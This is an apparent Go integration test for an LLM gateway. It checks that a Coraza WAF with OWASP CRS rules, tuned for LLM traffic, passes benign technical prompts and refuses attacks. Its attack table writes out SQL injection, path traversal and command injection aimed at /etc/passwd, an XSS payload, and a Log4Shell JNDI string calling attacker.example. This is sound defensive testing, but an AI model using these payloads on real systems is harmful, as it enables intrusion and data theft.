package integration

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/anthropics/anthropic-sdk-go/v2"
	aoption "github.com/anthropics/anthropic-sdk-go/v2/option"
	"github.com/openai/openai-go/v3"
	"github.com/openai/openai-go/v3/option"

	// The WAF is an opt-in plugin of the reference build (xcaddy.json), not a dependency
	// of caddy-llmguard's modules: only the tests link it into the in-process Caddy.
	_ "github.com/corazawaf/coraza-caddy/v2"
)

// wafPrompt is one benign prompt of a fixture (the injection detector's everyday set, or
// testdata/waf-prompts.jsonl: prompts about SQL, shell, HTML and code).
type wafPrompt struct {
	ID    string `json:"id"`
	Label int    `json:"label"`
	Text  string `json:"text"`
}

// readPrompts reads the benign rows (label 0) of JSONL prompt sets.
func readPrompts(t *testing.T, paths ...string) []wafPrompt {
	t.Helper()
	var out []wafPrompt
	for _, p := range paths {
		f, err := os.Open(p)
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(make([]byte, 1<<20), 1<<20)
		for sc.Scan() {
			var w wafPrompt
			if err := json.Unmarshal(sc.Bytes(), &w); err != nil {
				t.Fatalf("%s: %v", p, err)
			}
			if w.Label == 0 {
				out = append(out, w)
			}
		}
		f.Close()
		if err := sc.Err(); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

// The benign prompt sets of our own: everyday requests (the injection detector's fixture)
// and prompts about SQL, shell, HTML and code, which the bare CRS refuses.
const (
	everydayPrompts  = "../llmguard/detect/injection/testdata/everyday.jsonl"
	technicalPrompts = "testdata/waf-prompts.jsonl"
)

// llmShapes puts a prompt where each of the five LLM APIs carries prompt text, the way
// the official SDKs send it (string content and content parts alike).
type llmShape struct {
	path string
	body func(text string) any
}

var llmShapes = []llmShape{
	{"/v1/chat/completions", func(s string) any {
		return map[string]any{"model": "gpt-4o-mini", "messages": []any{
			map[string]any{"role": "system", "content": "You are a helpful assistant."},
			map[string]any{"role": "user", "content": s},
			map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{"id": "call_1", "type": "function", "function": map[string]any{"name": "run", "arguments": `{"code":` + jsonString(s) + `}`}}}},
			map[string]any{"role": "tool", "tool_call_id": "call_1", "content": []any{map[string]any{"type": "text", "text": s}}},
		}}
	}},
	{"/v1/completions", func(s string) any { return map[string]any{"model": "gpt-3.5-turbo-instruct", "prompt": s} }},
	{"/v1/embeddings", func(s string) any {
		return map[string]any{"model": "text-embedding-3-small", "input": []string{s, s}}
	}},
	{"/v1/responses", func(s string) any {
		return map[string]any{"model": "gpt-4o-mini", "instructions": s, "input": []any{
			map[string]any{"role": "user", "content": []any{map[string]any{"type": "input_text", "text": s}}},
		}}
	}},
	{"/v1/messages", func(s string) any {
		return map[string]any{"model": "claude-sonnet-4-5", "max_tokens": 64, "system": s, "messages": []any{
			map[string]any{"role": "user", "content": s},
			map[string]any{"role": "assistant", "content": []any{map[string]any{"type": "tool_use", "id": "t1", "name": "run", "input": map[string]any{}}}},
			map[string]any{"role": "user", "content": []any{map[string]any{"type": "tool_result", "tool_use_id": "t1", "content": s}, map[string]any{"type": "text", "text": s}}},
		}}
	}},
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// wafSend sends one request and returns the status and body.
func wafSend(t *testing.T, method, url, body string, header ...string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// wafRefused reports whether a reply is the WAF's refusal: 403 in the API's error shape
// with the generic code llm_error gives a 403 without a gateway-specific cause (llm_auth
// and llm_inspect refuse with codes of their own).
func wafRefused(status int, body string) bool {
	return status == http.StatusForbidden && strings.Contains(body, `"code":"forbidden"`)
}

// wafFalsePositives sends every prompt in each of shapes and returns how
// many requests the WAF refused, of how many, and the ids of the first few refused. The
// requests carry no key: llm_auth's 401 shows the WAF let the request through, and the
// measurement does not pay for inspection and the upstream.
func wafFalsePositives(t *testing.T, base string, prompts []wafPrompt, shapes []llmShape) (refused, total int, ids []string) {
	t.Helper()
	for _, p := range prompts {
		for _, sh := range shapes {
			b, err := json.Marshal(sh.body(p.Text))
			if err != nil {
				t.Fatal(err)
			}
			status, body := wafSend(t, "POST", base+sh.path, string(b))
			total++
			switch {
			case wafRefused(status, body):
				refused++
				if len(ids) < 8 {
					ids = append(ids, p.ID+" "+sh.path)
				}
			case status != http.StatusUnauthorized:
				t.Fatalf("%s %s: status %d body %.300s; want the WAF's 403 or llm_auth's 401", p.ID, sh.path, status, body)
			}
		}
	}
	return refused, total, ids
}

// edgeConfig is examples/edge rewritten for the test instance: free ports, and the demo
// geo database by its path from here (the example names it relative to its folder, where
// `caddy run` starts). It returns the config and the gateway's base URL.
func edgeConfig(t *testing.T) (string, string) {
	t.Helper()
	cfg, ports := example(t, "edge", 8080, 8081)
	db, err := filepath.Abs("../examples/edge/geo-demo.mmdb")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(cfg, "db geo-demo.mmdb") {
		t.Fatal("examples/edge/Caddyfile: expected `db geo-demo.mmdb`")
	}
	return strings.ReplaceAll(cfg, "db geo-demo.mmdb", "db "+db), fmt.Sprintf("http://localhost:%d", ports[8080])
}

// wafConfig is examples/edge rewritten for the test instance; untuned drops the block of
// LLM exclusions, paranoia sets the CRS paranoia level.
func wafConfig(t *testing.T, untuned bool, paranoia int) (string, string) {
	t.Helper()
	cfg, base := edgeConfig(t)
	if untuned {
		begin, end := strings.Index(cfg, "# BEGIN llm tuning"), strings.Index(cfg, "# END llm tuning")
		if begin < 0 || end < begin {
			t.Fatal("examples/edge/Caddyfile: no `# BEGIN llm tuning` … `# END llm tuning` block")
		}
		cfg = cfg[:begin] + cfg[end:]
	}
	const pl1 = "tx.blocking_paranoia_level=1"
	if !strings.Contains(cfg, pl1) {
		t.Fatalf("examples/edge/Caddyfile: no %s", pl1)
	}
	cfg = strings.Replace(cfg, pl1, fmt.Sprintf("tx.blocking_paranoia_level=%d", paranoia), 1)
	return cfg, base
}

// TestWAF runs the WAF of examples/edge/Caddyfile — Coraza with the embedded OWASP CRS v4, tuned for
// LLM traffic — and checks that attacks on the gateway are refused with 403 in the API's
// error shape before llm_auth runs, that ordinary and technical prompts pass through all
// five APIs and the official SDKs, and that the bare CRS would refuse the technical ones.
// Each config load compiles the CRS (about a second), so there are two; the full
// false-positive table (both paranoia levels, public prompt sets) is the eval test's.
func TestWAF(t *testing.T) {
	technical := readPrompts(t, technicalPrompts)

	t.Run("untuned CRS refuses technical prompts", func(t *testing.T) {
		cfg, base := wafConfig(t, true, 1)
		start(t, cfg)
		refused, total, ids := wafFalsePositives(t, base, technical, llmShapes[:1])
		t.Logf("CRS PL1 without the LLM tuning: %d of %d chat requests refused, e.g. %v", refused, total, ids)
		// The tuning must be needed: if the bare CRS passed these prompts, the WAF would
		// not be inspecting bodies at all, and the test below would prove nothing.
		if refused < total/2 {
			t.Fatalf("the untuned CRS refused only %d of %d prompts about SQL, shell and HTML: is the WAF inspecting request bodies?", refused, total)
		}
	})

	cfg, base := wafConfig(t, false, 1)
	start(t, cfg)

	t.Run("benign prompts pass", func(t *testing.T) {
		// Technical prompts in every API's prompt fields; everyday ones as chat.
		refused, total, ids := wafFalsePositives(t, base, technical, llmShapes)
		r2, t2, ids2 := wafFalsePositives(t, base, readPrompts(t, everydayPrompts), llmShapes[:1])
		refused, total, ids = refused+r2, total+t2, append(ids, ids2...)
		t.Logf("CRS PL1 with the LLM tuning: %d of %d requests refused", refused, total)
		if refused != 0 {
			t.Errorf("the tuned WAF refused %d of %d benign requests, e.g. %v", refused, total, ids)
		}
	})

	// Every attack is sent without a credential: a 403 (not llm_auth's 401) shows the WAF
	// refused it before any credential was looked at.
	attacks := []struct {
		name, method, path, body string
		header                   []string
	}{
		{"SQL injection in the query string", "GET", "/v1/models?id=1%27%20OR%20%271%27%3D%271", "", nil},
		{"UNION SELECT in the query string", "GET", "/v1/files?order=name%20UNION%20SELECT%20password%20FROM%20users--", "", nil},
		{"path traversal in the query string", "GET", "/v1/files?name=..%2F..%2F..%2Fetc%2Fpasswd", "", nil},
		{"path traversal in the path", "GET", "/v1/files/..%2f..%2f..%2fetc%2fpasswd", "", nil},
		{"command injection in the query string", "GET", "/v1/models?q=%3Bcat%20%2Fetc%2Fpasswd", "", nil},
		{"XSS in the query string", "GET", "/v1/models?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", nil},
		{"scanner user agent", "GET", "/v1/models", "", []string{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
		{"SQL injection in the Referer", "GET", "/v1/models", "", []string{"Referer", "https://x.example/?id=1' UNION SELECT password FROM users--"}},
		{"Log4Shell in a header", "GET", "/v1/models", "", []string{"X-Api-Version", "${jndi:ldap://attacker.example/a}"}},
		{"method not allowed by policy", "TRACE", "/v1/models", "", nil},
		{"charset not allowed by policy", "POST", "/v1/chat/completions", `{"model":"gpt-4o-mini","messages":[]}`, []string{"Content-Type", "application/json; charset=utf-7"}},
		{"SQL injection in a non-prompt field", "POST", "/v1/chat/completions", `{"model":"gpt-4o' UNION SELECT password FROM users--","messages":[{"role":"user","content":"hi"}]}`, nil},
		{"prompt-shaped body on another path", "POST", "/v1/admin/export", `{"messages":[{"role":"user","content":"1' UNION SELECT password FROM users--"}]}`, nil},
		{"SQL injection in the query string of an LLM endpoint", "POST", "/v1/chat/completions?user=1%27%20OR%20%271%27%3D%271", `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}`, nil},
	}
	for _, a := range attacks {
		t.Run("refused: "+a.name, func(t *testing.T) {
			status, body := wafSend(t, a.method, base+a.path, a.body, a.header...)
			if !wafRefused(status, body) {
				t.Fatalf("status %d body %s; want the WAF's 403 in the API's error shape", status, body)
			}
			var e struct {
				Error struct{ Message, Type, Code string } `json:"error"`
			}
			if err := json.Unmarshal([]byte(body), &e); err != nil || e.Error.Type == "" || e.Error.Message == "" {
				t.Fatalf("not the API's error shape: %s", body)
			}
		})
	}

	t.Run("refused on the Anthropic route in Anthropic's shape", func(t *testing.T) {
		status, body := wafSend(t, "POST", base+"/v1/messages?x=1%27%20OR%20%271%27%3D%271", `{"model":"claude-sonnet-4-5","max_tokens":8,"messages":[{"role":"user","content":"hi"}]}`)
		if status != 403 || !strings.Contains(body, `"type":"error"`) {
			t.Fatalf("status %d body %s", status, body)
		}
	})

	t.Run("a clean request without a key reaches llm_auth", func(t *testing.T) {
		status, body := wafSend(t, "POST", base+"/v1/chat/completions", `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}`)
		if status != 401 || !strings.Contains(body, "missing_api_key") {
			t.Fatalf("status %d body %s", status, body)
		}
	})

	t.Run("a body over the limit is refused with 413", func(t *testing.T) {
		big := `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"` + strings.Repeat("a", 1<<20) + `"}]}`
		status, body := wafSend(t, "POST", base+"/v1/chat/completions", big, "Authorization", "Bearer "+demoKey)
		if status != 413 || !strings.Contains(body, `"error"`) {
			t.Fatalf("status %d body %.300s", status, body)
		}
	})

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	sqlPrompt := "Why does SELECT * FROM users WHERE id = 1 OR 1=1 return every row? <b>Explain</b> with `rm -rf /` as a bad example."

	t.Run("OpenAI SDK: a prompt with SQL and HTML passes, also streamed", func(t *testing.T) {
		c := openai.NewClient(option.WithBaseURL(base+"/v1"), option.WithAPIKey(demoKey), option.WithMaxRetries(0))
		resp, err := c.Chat.Completions.New(ctx, openai.ChatCompletionNewParams{
			Model:    "gpt-4o-mini",
			Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage(sqlPrompt)},
		})
		if err != nil {
			t.Fatal(err)
		}
		if got := resp.Choices[0].Message.Content; got != sqlPrompt {
			t.Fatalf("the upstream got %q", got)
		}
		stream := c.Chat.Completions.NewStreaming(ctx, openai.ChatCompletionNewParams{
			Model:    "gpt-4o-mini",
			Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage(sqlPrompt)},
		})
		var text strings.Builder
		for stream.Next() {
			for _, ch := range stream.Current().Choices {
				text.WriteString(ch.Delta.Content)
			}
		}
		if err := stream.Err(); err != nil {
			t.Fatal(err)
		}
		if text.String() != sqlPrompt {
			t.Fatalf("streamed %q", text.String())
		}
	})

	t.Run("Anthropic SDK: a prompt with SQL and HTML passes", func(t *testing.T) {
		c := anthropic.NewClient(aoption.WithBaseURL(base), aoption.WithAPIKey(demoKey), aoption.WithMaxRetries(0))
		msg, err := c.Messages.New(ctx, anthropic.MessageNewParams{
			Model:     "claude-sonnet-4-5",
			MaxTokens: 64,
			Messages:  []anthropic.MessageParam{anthropic.NewUserMessage(anthropic.NewTextBlock(sqlPrompt))},
		})
		if err != nil {
			t.Fatal(err)
		}
		if len(msg.Content) == 0 || msg.Content[0].Text != sqlPrompt {
			t.Fatalf("reply %+v", msg.Content)
		}
	})
}
